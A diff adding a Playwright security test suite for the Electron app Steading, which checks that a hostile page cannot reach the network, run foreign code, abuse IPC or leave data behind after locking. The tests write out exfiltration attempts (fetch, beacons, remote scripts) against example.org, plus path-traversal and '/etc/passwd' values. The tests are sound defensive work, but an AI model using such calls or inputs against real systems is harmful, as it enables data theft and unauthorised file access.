@@ -1,0 +1,313 @@
+/** The doors: nothing leaves, nothing foreign runs, only the listed words cross to main, and locking empties the page. */
+import { readdir } from 'node:fs/promises';
+import type { Page } from '@playwright/test';
+import { invokeChannels } from '../../../shared/ipc/channels.js';
+import { type AppHost, expect, test } from '../fixtures.js';
+import { lockTimeout, setUp, unlock } from '../page-models/first-run.js';
+import { addPerson, openPerson } from '../page-models/people.js';
+import { expectHeading } from '../page-models/places.js';
+import { handOf } from '../support/hand.js';
+
+test.describe.configure({ timeout: 600_000 });
+
+
+/** What a page could try, each with its own way of saying that it was refused. */
+async function attempts(page: Page): Promise<Record<string, string | null>> {
+  return await page.evaluate(async () => {
+    const target = 'https://example.org/collect';
+    const refusedBy = (task: Promise<unknown>): Promise<string | null> =>
+      task.then(
+        () => null,
+        (error: unknown) => String(error),
+      );
+    const element = (tag: string, attributes: Record<string, string>): Promise<string | null> =>
+      new Promise((resolve) => {
+        const node = document.createElement(tag);
+        node.addEventListener('load', () => resolve(null));
+        node.addEventListener('error', () => resolve('error'));
+        for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
+        document.body.append(node);
+      });
+    const violation = (act: () => void): Promise<string | null> =>
+      new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+        setTimeout(() => resolve(null), 5_000);
+        act();
+      });
+    const tried: Record<string, () => Promise<string | null>> = {
+      fetch: () => refusedBy(fetch(target, { method: 'POST', body: 'x', mode: 'no-cors' })),
+      xhr: () =>
+        new Promise((resolve) => {
+          const request = new XMLHttpRequest();
+          request.onload = () => resolve(null);
+          request.onerror = () => resolve('error');
+          request.open('GET', target);
+          request.send();
+        }),
+      webSocket: () =>
+        new Promise((resolve) => {
+          try {
+            const socket = new WebSocket('wss://example.org/');
+            socket.onopen = () => resolve(null);
+            socket.onerror = () => resolve('error');
+          } catch (error) {
+            resolve(String(error));
+          }
+        }),
+      eventSource: () =>
+        new Promise((resolve) => {
+          const source = new EventSource(target);
+          source.onopen = () => resolve(null);
+          source.onerror = () => {
+            source.close();
+            resolve('error');
+          };
+        }),
+      beacon: () => violation(() => void navigator.sendBeacon(target, 'x')),
+      image: () => element('img', { src: 'https://example.org/pixel.png' }),
+      script: () => element('script', { src: 'https://example.org/code.js' }),
+      style: () => element('link', { rel: 'stylesheet', href: 'https://example.org/look.css' }),
+      frame: () => violation(() => void element('iframe', { src: 'https://example.org/' })),
+      prefetch: () => violation(() => void element('link', { rel: 'prefetch', href: 'https://example.org/next' })),
+      inlineScript: () =>
+        violation(() => {
+          const node = document.createElement('script');
+          node.textContent = 'window.ranInline = true';
+          document.body.append(node);
+        }),
+      inlineStyle: () =>
+        violation(() => {
+          const node = document.createElement('style');
+          node.textContent = 'body { display: none }';
+          document.head.append(node);
+        }),
+      styleAttribute: () => violation(() => document.body.insertAdjacentHTML('beforeend', '<i style="color: red">x</i>')),
+      eval: () => refusedBy(Promise.resolve().then(() => (0, eval)('1 + 1') as unknown)),
+      newFunction: () => refusedBy(Promise.resolve().then(() => new Function('return 1')() as unknown)),
+      blobWorker: () => violation(() => void new Worker(URL.createObjectURL(new Blob(['self.close()'])))),
+      popUp: async () => (window.open('https://example.org/') === null ? 'no window' : null),
+      // The policy names no peers; what keeps them in is that no candidate of another machine is ever gathered.
+      peer: async () => {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.example.org:3478' }] });
+        peer.createDataChannel('x');
+        const found: string[] = [];
+        await peer.setLocalDescription(await peer.createOffer());
+        await new Promise<void>((resolve) => {
+          peer.onicecandidate = ({ candidate }) => {
+            if (candidate === null) resolve();
+            else found.push(candidate.candidate);
+          };
+          if (peer.iceGatheringState === 'complete') resolve();
+        });
+        peer.close();
+        return found.length === 0 ? 'no candidate' : null;
+      },
+      geolocation: () =>
+        refusedBy(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
+      notifications: async () => ((await Notification.requestPermission()) === 'granted' ? null : 'denied'),
+      microphone: () => refusedBy(navigator.mediaDevices.getUserMedia({ audio: true })),
+      readClipboard: () => refusedBy(navigator.clipboard.readText()),
+      serviceWorker: () => refusedBy(navigator.serviceWorker.register('/sw.js')),
+    };
+    const answers: Record<string, string | null> = {};
+    for (const [name, attempt] of Object.entries(tried)) answers[name] = await attempt();
+    return answers;
+  });
+}
+
+test.describe('a page that turns against its owner', () => {
+  test.use({ tolerate: ['blocked', 'cspViolations'] });
+
+  test('reaches nobody, opens nothing and runs nothing foreign', async ({ app, page }) => {
+    await expectHeading(page, 'Welcome to Steading');
+    const address = page.url();
+    const answers = await attempts(page);
+    for (const [name, answer] of Object.entries(answers)) {
+      expect(answer, `${name} has to be refused`).not.toBeNull();
+    }
+    expect(await page.evaluate(() => 'ranInline' in window)).toBe(false);
+
+    await test.step('no download, no navigation', async () => {
+      await page.evaluate(() => {
+        const link = document.createElement('a');
+        link.href = URL.createObjectURL(new Blob(['words']));
+        link.download = 'words.txt';
+        link.click();
+      });
+      await expect.poll(async () => (await app.log()).downloads).toEqual([expect.objectContaining({ prevented: true })]);
+      for (const url of ['https://example.org/away', 'data:text/html,gone', 'file:///etc/hostname']) {
+        await page.evaluate((where) => {
+          window.location.href = where;
+        }, url);
+      }
+      await page.evaluate(() => {
+        const form = document.createElement('form');
+        form.action = 'https://example.org/form';
+        form.method = 'post';
+        document.body.append(form);
+        form.submit();
+      });
+      await expectHeading(page, 'Welcome to Steading');
+      expect(page.url()).toBe(address);
+    });
+
+    const log = await app.log();
+    expect(log.network).toEqual([]);
+    expect(log.requests.filter((url) => !url.startsWith('app://local/'))).toEqual([]);
+    expect(log.permissions.filter(({ granted }) => granted)).toEqual([]);
+    expect((await app.state()).windows).toHaveLength(1);
+  });
+});
+
+test('the page may say only what is on the list, and only in the agreed form', async ({ app, page }) => {
+  await expectHeading(page, 'Welcome to Steading');
+  const surface = await page.evaluate(() => {
+    const { desktop } = window as unknown as { desktop: Record<string, unknown> };
+    return {
+      names: Object.keys(desktop).sort(),
+      isFrozen: Object.isFrozen(desktop),
+      kinds: [...new Set(Object.values(desktop).map((value) => typeof value))],
+      strangers: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window),
+    };
+  });
+  expect(surface).toEqual({
+    names: [...invokeChannels, 'on'].sort(),
+    isFrozen: true,
+    kinds: ['function'],
+    strangers: [],
+  });
+  const before = await readdir(app.userDataDir);
+  const answers = await page.evaluate(async () => {
+    const { desktop } = window as unknown as { desktop: Record<string, (request: unknown) => Promise<unknown>> };
+    const forged: readonly (readonly [string, unknown])[] = [
+      ['vault.readHeader', { vault: '../../etc' }],
+      ['vault.readHeader', undefined],
+      ['vault.readHeader', { vault: 'main', path: '/etc/passwd' }],
+      ['vault.writeHeader', { vault: 'main', bytes: 'words' }],
+      ['vault.writeHeader', { vault: 'main', bytes: new Uint8Array(70_000) }],
+      ['vault.readJournal', { vault: 'main', offset: -1, maxBytes: 1 }],
+      ['vault.readJournal', { vault: 'main', offset: 0, maxBytes: 1e12 }],
+      ['vault.appendFrame', { vault: 'main', offset: 0.5, frame: new Uint8Array(1) }],
+      ['vault.cutTail', { vault: 'main', offset: Number.NaN }],
+      ['vault.eraseDemo', { vault: 'main' }],
+      ['file.save', { suggestedName: '../../x.txt', bytes: new Uint8Array(1) }],
+      ['file.save', { suggestedName: 'x.exe', bytes: new Uint8Array(1) }],
+      ['file.savePdf', { suggestedName: 'x.pdf', footer: 'y'.repeat(200) }],
+      ['session.locked', { locked: 'no' }],
+      ['app.info', { please: true }],
+      ['app.info', { __proto__: null, constructor: 'x' }],
+    ];
+    return await Promise.all(forged.map(([channel, request]) => desktop[channel]?.(request)));
+  });
+  for (const answer of answers) expect(answer).toEqual({ ok: false, error: { tag: 'BadArguments' } });
+  expect(await readdir(app.userDataDir)).toEqual(before);
+  expect((await app.log()).dialogs).toEqual([]);
+  const strange = await page.evaluate(() => {
+    const { desktop } = window as unknown as { desktop: { on: (channel: string, listener: unknown) => unknown } };
+    const tried = ['vault.changed', 'lock.requested'] as const;
+    return tried.map((channel, at) => {
+      try {
+        desktop.on(channel, at === 0 ? () => undefined : 'no function');
+        return 'listening';
+      } catch {
+        return 'refused';
+      }
+    });
+  });
+  expect(strange).toEqual(['refused', 'refused']);
+});
+
+test('one window, with Electron’s checklist kept; a second start only brings it to the front', async ({ app, page }) => {
+  await expectHeading(page, 'Welcome to Steading');
+  const log = await app.log();
+  if (app.kind === 'chromium') {
+    expect(log.windows).toHaveLength(1);
+    expect(log.windows[0]).toMatchObject({
+      title: 'Steading',
+      webPreferences: {
+        sandbox: true,
+        contextIsolation: true,
+        nodeIntegration: false,
+        nodeIntegrationInWorker: false,
+        nodeIntegrationInSubFrames: false,
+        webSecurity: true,
+        allowRunningInsecureContent: false,
+        experimentalFeatures: false,
+        webviewTag: false,
+        navigateOnDragDrop: false,
+        spellcheck: false,
+      },
+    });
+    expect(JSON.stringify(log.windows[0])).not.toMatch(/enableBlinkFeatures|"plugins"/);
+  }
+  await app.window('minimize');
+  const second = await app.secondInstance();
+  expect(second.exitCode).toBe(0);
+  await expect.poll(async () => (await app.state()).windows).toEqual([
+    expect.objectContaining({ minimized: false, visible: true, title: 'Steading' }),
+  ]);
+  expect(app.isRunning()).toBe(true);
+});
+
+const seededName = 'Ottoline Quendale';
+const seededRole = 'Lighthouse warden';
+
+/** Every place in reach of a script where a name could be left behind. */
+async function leftBehind(page: Page): Promise<string> {
+  return await page.evaluate(() =>
+    [
+      document.documentElement.outerHTML,
+      document.title,
+      location.href,
+      JSON.stringify({ ...localStorage }),
+      JSON.stringify({ ...sessionStorage }),
+      JSON.stringify(history.state),
+      window.name,
+    ].join('\n'),
+  );
+}
+
+async function expectEmptied(app: AppHost): Promise<void> {
+  const text = await leftBehind(app.page);
+  for (const secret of [seededName, 'Ottoline', 'Quendale', seededRole]) expect(text).not.toContain(secret);
+  await expect(app.page.getByRole('navigation', { name: 'Places' })).toHaveCount(0);
+  for (const { title } of (await app.state()).windows) expect(title).toBe('Steading');
+}
+
+test('idle, sleep, the system’s lock and the curtain take the content away', async ({ app, page }) => {
+  const { passphrase } = await setUp(app);
+  const hand = handOf(page, 'mouse');
+  await addPerson(hand, {
+    name: seededName,
+    role: seededRole,
+    engagement: 'Staff',
+    team: 'Recovery hub',
+    startDate: '03/02/2025',
+  });
+  const lockers: readonly (readonly [string, () => Promise<void>])[] = [
+    ['five idle minutes', () => app.setIdle(301)],
+    ['sleep', () => app.emitPower('suspend')],
+    ['the system’s lock', () => app.emitPower('lock-screen')],
+  ];
+  for (const [name, lock] of lockers) {
+    await test.step(name, async () => {
+      await expect(page.getByRole('heading', { level: 1, name: seededName })).toBeVisible();
+      expect(await page.title()).not.toContain(seededName);
+      await lock();
+      await expectHeading(page, 'Steading is locked');
+      await expectEmptied(app);
+      await app.setIdle(0);
+      if (name === 'the system’s lock') await app.emitPower('unlock-screen');
+      await unlock(page, passphrase);
+      await openPerson(hand, seededName);
+    });
+  }
+  await test.step('the curtain', async () => {
+    await page.keyboard.press('Control+Shift+H');
+    await expectHeading(page, 'The screen is hidden');
+    await expectEmptied(app);
+    await page.keyboard.press('Escape');
+    await expect(page.getByRole('heading', { level: 1, name: 'Steading is locked' })).toBeVisible({ timeout: lockTimeout });
+    await expectEmptied(app);
+  });
+});
